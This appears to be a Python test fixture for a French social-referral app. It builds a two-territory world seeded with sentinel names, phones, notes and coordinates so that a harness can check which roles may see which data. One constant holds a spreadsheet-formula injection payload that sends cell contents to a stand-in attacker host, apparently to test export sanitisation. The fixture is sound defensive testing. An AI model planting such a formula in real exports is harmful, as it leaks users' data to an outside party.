"""A small two-territory world for the route harness, with sentinel strings in every field
some role must never receive (names, phones, notes, professional notes, positions).

Territory A holds resident A (followed by relay A, referred to resource A of structure A,
whose social worker is `social`); territory B the same with B. The signed-in roles of the
harness are the A side (coordinator of A, relay A, social worker of A) and an admin.
"""

import uuid
from dataclasses import dataclass, field

from sqlalchemy import select

from bienveilleurs.extensions import db
from bienveilleurs.models import ApiToken, Notification
from bienveilleurs.security import new_token
from bienveilleurs.services import referrals as service
from geo.privacy import approximate_point

from ..factories import make_relay, make_resource, make_structure, make_territory, make_user

CATEGORY = "sante--sante-mentale"
TERRITORY_A = [(0.100, 49.490), (0.120, 49.490), (0.120, 49.500), (0.100, 49.500)]
TERRITORY_B = [(0.130, 49.500), (0.150, 49.500), (0.150, 49.510), (0.130, 49.510)]
# Positions chosen so that their first four decimals appear nowhere else.
RELAY_A = (0.11131, 49.49173)
RELAY_B = (0.14131, 49.50683)
RESIDENT_A = (0.10573, 49.49627)
RESIDENT_B = (0.13721, 49.50417)
CANDIDATE_A = (0.10893, 49.49281)
CANDIDATE_B = (0.14387, 49.50239)
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'


def position_strings(lon, lat):
    """The ways a page or a file could print this position (dot or comma, 4 decimals)."""
    lat_text = f"{lat:.5f}"[:-1]
    lon_text = f"{lon:.5f}"[:-1]
    return {lat_text, lat_text.replace(".", ","), lon_text, lon_text.replace(".", ",")}


@dataclass
class World:
    users: dict
    objects: dict          # kind -> {"A": value, "B": value}
    sentinels: dict        # name -> set of strings
    forbidden: dict = field(default_factory=dict)  # role -> names of sentinels

    def value(self, kind, side):
        return self.objects[kind][side]


def _referral(coordinator, relay_user, relay, resource, *, name, phone, lon, lat, tag):
    referral, _ = service.report(coordinator, {
        "resident": {"first_name": name, "phone": phone, "lat": lat, "lon": lon},
        "category": CATEGORY, "consent": True, "note": f"Zqx{tag}Note"})
    service.transition(coordinator, referral.id, "assigned", relay_id=relay.id)
    service.transition(coordinator, referral.id, "contacted",
                       note=f"Zqx{tag}ProNote", note_professional=True)
    contact, _ = service.log_contact(relay_user, referral.id, {
        "id": str(uuid.uuid4()), "at": "2026-01-05T10:00:00+01:00", "channel": "visit",
        "reached": True, "note": f"Zqx{tag}ContactNote"})
    service.transition(coordinator, referral.id, "referred", resource_id=resource.id)
    return db.session.get(type(referral), referral.id), contact


def _candidacies():
    """A candidacy met in each territory and a training session in each, with a participant."""
    from bienveilleurs import clock
    from bienveilleurs.models import Candidacy, TrainingParticipant, TrainingSession
    from geo.points import stored_point

    now, objects = clock.now(), {"candidacy": {}, "training": {}, "participant": {}}
    for side, point, phone in (("A", CANDIDATE_A, "07 11 22 33 44"),
                               ("B", CANDIDATE_B, "07 99 88 77 66")):
        candidacy = Candidacy(first_name=f"ZqxCandidate{side}", email=f"cand{side}@test.fr",
                              phone=phone, point=stored_point(*point), profile="resident",
                              languages=["fr"], consent_at=now, stage="met",
                              stage_changed_at=now, submitted_at=now, confirmed_at=now)
        session = TrainingSession(topic=f"Formation {side}", starts_at=now, place_name="Salle",
                                  point=stored_point(*point), capacity=10)
        db.session.add_all([candidacy, session])
        db.session.flush()
        participant = TrainingParticipant(session_id=session.id, candidacy_id=candidacy.id)
        db.session.add(participant)
        db.session.flush()
        objects["candidacy"][side] = candidacy.id
        objects["training"][side] = session.id
        objects["participant"][side] = participant.id
    return objects


def build_world():
    territory_a = make_territory(name="Quartier A", polygon=TERRITORY_A)
    territory_b = make_territory(name="Quartier B", polygon=TERRITORY_B)
    admin = make_user(role="admin")
    coordinator = make_user(role="coordinator", territories=[territory_a])
    coordinator_b = make_user(role="coordinator", territories=[territory_b])
    relay_user = make_user(role="relay", display_name="Relais A")
    relay_user_b = make_user(role="relay", display_name="Relais B")
    relay_a = make_relay(user=relay_user, lon=RELAY_A[0], lat=RELAY_A[1], radius_m=3000,
                         display_name="Relais A")
    relay_b = make_relay(user=relay_user_b, lon=RELAY_B[0], lat=RELAY_B[1], radius_m=3000,
                         display_name="Relais B")
    structure_a = make_structure(name="Structure A")
    structure_b = make_structure(name="Structure B")
    resource_a = make_resource(structure=structure_a, name="Ressource A", categories=(CATEGORY,),
                               lon=0.1150, lat=49.4930)
    resource_b = make_resource(structure=structure_b, name="Ressource B", categories=(CATEGORY,),
                               lon=0.1450, lat=49.5080)
    make_resource(structure=structure_a, name=FORMULA, categories=(CATEGORY,), lon=0.1160,
                  lat=49.4935)
    social = make_user(role="social_worker")
    social_b = make_user(role="social_worker")
    structure_a.members.append(social)
    structure_b.members.append(social_b)
    db.session.flush()

    referral_a, contact_a = _referral(coordinator, relay_user, relay_a, resource_a,
                                      name="ZqxResidentAname", phone="06 11 22 33 44",
                                      lon=RESIDENT_A[0], lat=RESIDENT_A[1], tag="A")
    referral_b, contact_b = _referral(coordinator_b, relay_user_b, relay_b, resource_b,
                                      name="ZqxResidentBname", phone="06 99 88 77 66",
                                      lon=RESIDENT_B[0], lat=RESIDENT_B[1], tag="B")
    tokens = {}
    for user in (relay_user, relay_user_b):
        _, digest = new_token()
        token = ApiToken(user_id=user.id, digest=digest, label="harness")
        db.session.add(token)
        db.session.flush()
        tokens[user.id] = token.id

    candidacies = _candidacies()
    notification_id = db.session.scalar(select(Notification.id).order_by(Notification.id).limit(1))

    approx = {side: approximate_point(*position)
              for side, position in (("A", RESIDENT_A), ("B", RESIDENT_B))}
    sentinels = {
        "resident_a": {"ZqxResidentAname", "06 11 22 33 44", "0611223344", "ZqxANote"},
        "resident_b": ({"ZqxResidentBname", "06 99 88 77 66", "0699887766", "ZqxBNote",
                        "ZqxBContactNote"}
                       | position_strings(*RESIDENT_B) | position_strings(*approx["B"])),
        "resident_a_exact": position_strings(*RESIDENT_A),
        "contact_note_a": {"ZqxAContactNote"},
        "pro_note_a": {"ZqxAProNote"},
        "pro_note_b": {"ZqxBProNote"},
        "relay_a_position": position_strings(*RELAY_A),
        "relay_b_position": position_strings(*RELAY_B),
        # Candidates: their coordinators and the admins (who manage the network) only.
        "candidate_a": {"ZqxCandidateA", "07 11 22 33 44"} | position_strings(*CANDIDATE_A),
        "candidate_b": {"ZqxCandidateB", "07 99 88 77 66"} | position_strings(*CANDIDATE_B),
    }
    everything = set(sentinels)
    forbidden = {
        "anonymous": everything,
        "observer": everything,  # aggregates only: nothing about any person or relay
        "admin": everything - {"relay_a_position", "relay_b_position", "candidate_a",
                               "candidate_b"},
        "coordinator": {"resident_b", "pro_note_b", "candidate_b"},
        "relay": {"resident_b", "pro_note_a", "pro_note_b", "relay_b_position", "candidate_a",
                  "candidate_b"},
        "social_worker": {"resident_b", "pro_note_b", "contact_note_a", "resident_a_exact",
                          "relay_a_position", "relay_b_position", "candidate_a",
                          "candidate_b"},
    }
    objects = {
        "referral": {"A": referral_a.id, "B": referral_b.id},
        "resident": {"A": referral_a.resident_id, "B": referral_b.resident_id},
        "contact": {"A": contact_a.id, "B": contact_b.id},
        "relay": {"A": relay_a.id, "B": relay_b.id},
        "resource": {"A": resource_a.id, "B": resource_b.id},
        "structure": {"A": structure_a.id, "B": structure_b.id},
        "territory": {"A": territory_a.id, "B": territory_b.id},
        "user": {"A": relay_user.id, "B": relay_user_b.id},
        "token": {"A": tokens[relay_user.id], "B": tokens[relay_user_b.id]},
        "notification": {"A": notification_id, "B": notification_id},
        **candidacies,
    }
    users = {"admin": admin, "coordinator": coordinator, "relay": relay_user,
             "social_worker": social, "observer": make_user(role="observer")}
    db.session.expire_all()
    return World(users=users, objects=objects, sentinels=sentinels, forbidden=forbidden)
